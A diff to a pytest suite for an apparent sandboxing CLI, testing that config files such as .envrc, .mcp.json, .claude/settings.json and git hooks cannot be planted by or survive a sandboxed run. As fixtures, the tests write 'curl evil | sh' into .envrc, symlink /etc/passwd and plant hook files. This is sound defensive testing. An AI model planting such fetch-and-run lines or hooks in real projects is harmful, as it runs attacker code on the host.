@@ -95,10 +95,13 @@ def test_git_commit_still_works(jail: Path) -> None:
 
 
 def test_missing_envrc_is_removed_after_the_run(jail: Path, tmp_path: Path) -> None:
+    """The sweep: a file, a directory tree and a symlink planted at missing names are gone
+    after the run (``git``: the default's sweep, applied to ``.vscode`` too)."""
     receipt = tmp_path / "r.json"
     script = ("echo 'curl evil | sh' > .envrc && mkdir -p .vscode && echo '{}' > "
               ".vscode/tasks.json && ln -s /etc/passwd .mcp.json && cat .envrc")
-    r = run_cli(jail, "sh", "-c", script, extra=["--receipt", receipt])
+    r = run_cli(jail, "sh", "-c", script,
+                extra=["--protect-missing", "git", "--receipt", receipt])
     assert r.returncode == 0, show(r)
     assert "curl evil" in out(r)  # written during the run
     for name in (".envrc", ".vscode", ".mcp.json"):
@@ -255,7 +258,7 @@ mkdir -p evil && cp -r .git/objects .git/refs .git/HEAD evil/ \
 
 @pytest.mark.parametrize("mode", ["git", "sweep", "allowed"])
 def test_a_commondir_redirect_is_not_left_for_the_host(jail: Path, mode: str) -> None:
-    """By default (``protect_missing = "git"``) the missing commondir gets its placeholder
+    """By default (``protect_missing = "quiet"``) the missing commondir gets its placeholder
     (``.``) and the redirect cannot even be written; with ``sweep`` it is written and gone
     after the run; negative control: opted out, it stays and git runs the command."""
     repo = _repo(jail)
@@ -341,16 +344,46 @@ def test_placeholders_keep_missing_names_uncreatable_during_the_run(jail: Path,
 
 
 def test_the_sweep_leaves_a_window_during_the_run(jail: Path, tmp_path: Path) -> None:
-    """Negative control, and the documented trade-off of the default: with the sweep the
-    planted files exist on the host while the run lasts, and are gone after it."""
+    """Negative control, and the documented trade-off of ``git``: with the sweep the planted
+    files exist on the host while the run lasts, and are gone after it."""
     receipt = tmp_path / "r.json"
-    statuses, seen, r = _plant_and_look(jail, ["--receipt", receipt])
+    statuses, seen, r = _plant_and_look(jail, ["--protect-missing", "git",
+                                               "--receipt", receipt])
     assert r.returncode == 0, show(r)
     assert statuses == {"envrc": "ok", "claude": "ok", "mcp": "ok"}, statuses
     assert seen == {".envrc": b"curl evil | sh\n", ".claude/settings.json": b'{"hooks": 1}\n',
                     ".mcp.json": b"<link>"}, seen
     for name in (".envrc", ".claude", ".mcp.json"):
         assert not os.path.lexists(jail / name), name
+
+
+def test_the_default_keeps_editor_and_agent_directories_uncreatable(jail: Path,
+                                                                    tmp_path: Path) -> None:
+    """By default (``quiet``) the directories an editor or agent reads while the run goes on
+    get empty placeholders: ``.claude/settings.json`` cannot be planted even mid-run (the
+    host reads nothing there), and git shows nothing of them. The files are the sweep's:
+    planted mid-run (the documented window), gone after. Negative control:
+    ``test_the_sweep_leaves_a_window_during_the_run``, where ``.claude`` lands."""
+    repo = _repo(jail)
+    receipt = tmp_path / "r.json"
+    statuses, seen, r = _plant_and_look(repo, ["--receipt", receipt])
+    assert r.returncode == 0, show(r)
+    assert statuses == {"envrc": "ok", "claude": "denied", "mcp": "ok"}, statuses
+    assert seen == {".envrc": b"curl evil | sh\n", ".claude/settings.json": None,
+                    ".mcp.json": b"<link>"}, seen
+    for name in (".envrc", ".mcp.json"):
+        assert not os.path.lexists(repo / name), name
+    protected = read_receipt(receipt)["protected"]
+    for name in (".vscode", ".idea", ".claude", ".cursor"):
+        assert (repo / name).is_dir() and not any((repo / name).iterdir()), name
+        assert protected[str(repo / name)] == \
+            "read-only bind (placeholder made by protect_missing)", protected
+    for name in (".envrc", ".mcp.json", ".ssh", ".bashrc"):
+        assert protected[str(repo / name)] == "removed after the run", protected
+    status = _git(repo, "status", "--porcelain", "--untracked-files=all")
+    assert status.returncode == 0 and status.stdout == b"", status
+    add = _git(repo, "add", "-A", "--dry-run")
+    assert add.returncode == 0 and add.stdout == b"", add
 
 
 def test_placeholder_commondir_keeps_git_working(jail: Path) -> None:
@@ -562,7 +595,7 @@ def test_protect_depth_is_checked(jail: Path, value: str) -> None:
     assert not proof.exists()
 
 
-@pytest.mark.parametrize("mode", ["git", "sweep"])
+@pytest.mark.parametrize("mode", ["quiet", "sweep"])
 def test_missing_git_names_get_invisible_placeholders_by_default(jail: Path, mode: str) -> None:
     """A repository without hooks (a clone with an empty template): by default the hook
     cannot be written even while the run lasts (a placeholder directory, read-only), and
@@ -571,12 +604,12 @@ def test_missing_git_names_get_invisible_placeholders_by_default(jail: Path, mod
     import shutil
     repo = _repo(jail)
     shutil.rmtree(repo / ".git" / "hooks")
-    extra = [] if mode == "git" else ["--protect-missing", "sweep"]
+    extra = [] if mode == "quiet" else ["--protect-missing", "sweep"]
     r = run_cli(repo, "sh", "-c", "mkdir -p .git/hooks && printf '#!/bin/sh\\n' > "
                 ".git/hooks/pre-commit && echo hook=ok || echo hook=denied", extra=extra)
-    assert _attack_statuses(r) == {"hook": "denied" if mode == "git" else "ok"}, show(r)
+    assert _attack_statuses(r) == {"hook": "denied" if mode == "quiet" else "ok"}, show(r)
     assert not (repo / ".git" / "hooks" / "pre-commit").exists()
-    assert (repo / ".git" / "hooks").is_dir() == (mode == "git")
+    assert (repo / ".git" / "hooks").is_dir() == (mode == "quiet")
     status = _git(repo, "status", "--porcelain", "--untracked-files=all")
     assert status.returncode == 0 and status.stdout == b"", status
 
